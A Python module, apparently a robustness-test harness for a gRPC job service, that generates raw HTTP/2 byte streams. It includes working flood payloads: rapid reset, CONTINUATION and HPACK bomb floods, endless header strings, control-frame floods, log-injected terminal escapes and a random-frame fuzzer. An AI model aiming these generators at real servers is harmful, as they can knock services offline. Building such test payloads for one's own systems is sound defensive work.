"""HTTP/2 as bytes: what a peer may say below gRPC, well and ill (RFC 9113, RFC 7541). A flood is an opening and what follows
without end."""
import itertools
import random
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


OPENING = PREFACE + frame(SETTINGS)


def integer(value, bits, first=0):
    """An integer of HPACK, below whose `bits` lies `first`."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes([*out, value])


def text(value):
    return integer(len(value), 7) + value


def remembered(name, value):
    """A header that later blocks may name by a number."""
    return b"\x40" + text(name) + text(value)


def request(path, token=None):
    """The first header block of a connection, and a short block that repeats it."""
    fields = [(b":path", path), (b":authority", b"127.0.0.1"), (b"te", b"trailers"), (b"content-type", b"application/grpc")]
    if token:
        fields.append((b"authorization", b"Bearer " + token))
    plain = b"\x83\x86"  # POST, http.
    first = plain + b"".join(remembered(*field) for field in fields)
    return first, plain + bytes(0x80 | 61 + len(fields) - i for i in range(len(fields)))


def message(content=b""):
    return b"\0" + struct.pack(">I", len(content)) + content


PATH = b"/trainyard.v1.JobService/ListJobs"


def _streams(path, token, each):
    """Opens streams one after the other; `each` is what follows a stream's headers."""
    first, again = request(path, token)
    yield frame(HEADERS, END_HEADERS, 1, first) + each(1)
    numbers = itertools.count(3, 2)
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS, n, again) + each(n) for n in itertools.islice(numbers, 1000))


def rapid_reset(rng, token):
    code = struct.pack(">I", rng.choice([0, 5, 8]))
    return _streams(PATH, token, lambda n: frame(RST_STREAM, 0, n, code))


def half_open(rng, token):
    return _streams(PATH, token, lambda n: b"")


def late_half_open(rng, token):
    """After a whole call, by which its sender is known and may send more at once."""
    return _streams(PATH, token, lambda n: frame(DATA, END_STREAM, n, message()) if n == 1 else b"")


def calls_cut_short(rng, token):
    """Whole calls, each reset at once."""
    code = struct.pack(">I", 8)
    return _streams(PATH, token, lambda n: frame(DATA, END_STREAM, n, message()) + frame(RST_STREAM, 0, n, code))


def _repeat(opening, piece, size=1 << 16):
    yield opening
    block = piece * max(1, size // len(piece))
    while True:
        yield block


def _opened(token, rest=b"", flags=END_HEADERS):
    """The headers of a call on stream 3, of which no message comes. With a token, a whole call precedes it, so that its sender is
    known and may send more at once."""
    first, again = request(PATH, token)
    if not token:
        return frame(HEADERS, flags, 3, first + rest)
    whole = frame(HEADERS, END_HEADERS, 1, first) + frame(DATA, END_STREAM, 1, message())
    return whole + frame(HEADERS, flags, 3, again + rest)


def settings(rng, token):
    pairs = b"".join(struct.pack(">HI", rng.choice([3, 4, 6]), rng.randrange(1 << 16, 1 << 17)) for _ in range(rng.choice([0, 1, 4])))
    return _repeat(_opened(token), frame(SETTINGS, 0, 0, pairs))


def ping(rng, token):
    return _repeat(_opened(token), frame(PING, rng.choice([0, ACK]), 0, rng.randbytes(8)))


def priority(rng, token):
    return _repeat(_opened(token), frame(PRIORITY, 0, rng.choice([3, 5, 101]), struct.pack(">IB", 0, rng.randrange(256))))


def window_update(rng, token):
    return _repeat(_opened(token), frame(WINDOW_UPDATE, 0, rng.choice([3, 7]), struct.pack(">I", 1)))


def empty_data(rng, token):
    return _repeat(_opened(token), frame(DATA, 0, 3))


def unknown(rng, token):
    return _repeat(_opened(token), frame(rng.randrange(11, 256), rng.randrange(256), 3, rng.randbytes(rng.choice([0, 3]))))


def continuation(rng, token):
    """A header block that never ends, of many small headers."""
    piece = b"".join(b"\0" + text(b"x%03d" % i) + text(rng.randbytes(4).hex().encode()) for i in range(900))
    return _repeat(_opened(token, flags=0), frame(CONTINUATION, 0, 3, piece))


def empty_continuation(rng, token):
    return _repeat(_opened(token, flags=0), frame(CONTINUATION, 0, 3))


def endless_string(rng, token):
    """One header whose value is said to have two gigabytes."""
    opening = b"\0" + text(b"x") + integer((1 << 31) - 1, 7)
    return _repeat(_opened(token, opening, flags=0), frame(CONTINUATION, 0, 3, b"a" * rng.choice([100, 1000, 16000])))


def endless_integer(rng, token):
    return _repeat(_opened(token, b"\xff", flags=0), frame(CONTINUATION, 0, 3, b"\x80" * 1000))


def bomb(rng, token):
    """Each byte names a header of 4,000 bytes."""
    return _repeat(_opened(token, remembered(b"x", b"a" * 3900), flags=0), frame(CONTINUATION, 0, 3, b"\xbe" * 16000))


def table_sizes(rng, token):
    return _repeat(_opened(token, flags=0), frame(CONTINUATION, 0, 3, (b"\x20" + integer(4096, 5, 0x20)) * 3000))


def ill_fields(rng, token):
    """Headers whose values gRPC quotes in its log. Bytes of a value clear a terminal."""
    field = b"\0" + text(b":status") + text(b"\x1b[2J\n\xd6" + rng.randbytes(2))
    return _repeat(_opened(token, flags=0), frame(CONTINUATION, 0, 3, field * 900))


def opening_alone(rng, token):
    """A handshake, and no call."""
    return iter([b""])


def anything(rng, token):
    """Frames drawn by chance, some of them within their bounds: kinds, flags, streams, lengths, blocks of headers with bytes flipped. gRPC
    ends most such connections soon, so one is short."""
    first, again = request(PATH, token)
    blocks = [first, again, first[:rng.randrange(len(first))], b"", b"\xbe" * 50, b"\0" + integer(rng.randrange(1 << 31), 7)]
    yield _opened(token, flags=rng.choice([0, END_HEADERS]))
    for _ in range(rng.randrange(1, 60)):
        content = bytearray(rng.choice([*blocks, message(), message(rng.randbytes(9)), rng.randbytes(rng.randrange(40)), b"\0" * 4]))
        if content and rng.random() < 0.3:
            content[rng.randrange(len(content))] ^= 1 << rng.randrange(8)
        kind, flags = rng.choice([*range(10), rng.randrange(256)]), rng.choice([0, 1, 4, 5, 8, 0x20, rng.randrange(256)])
        whole = frame(kind, flags, rng.choice([0, 1, 3, 5, 2, rng.randrange(1 << 31)]), bytes(content))
        if rng.random() < 0.05:  # A length that is wrong.
            whole = rng.randbytes(3) + whole[3:]
        yield whole * rng.choice([1, 1, 1, 2, 100])


FLOODS = [rapid_reset, half_open, late_half_open, calls_cut_short, settings, ping, priority, window_update, empty_data, unknown,
          continuation, empty_continuation, endless_string, endless_integer, bomb, table_sizes, ill_fields, opening_alone, anything]
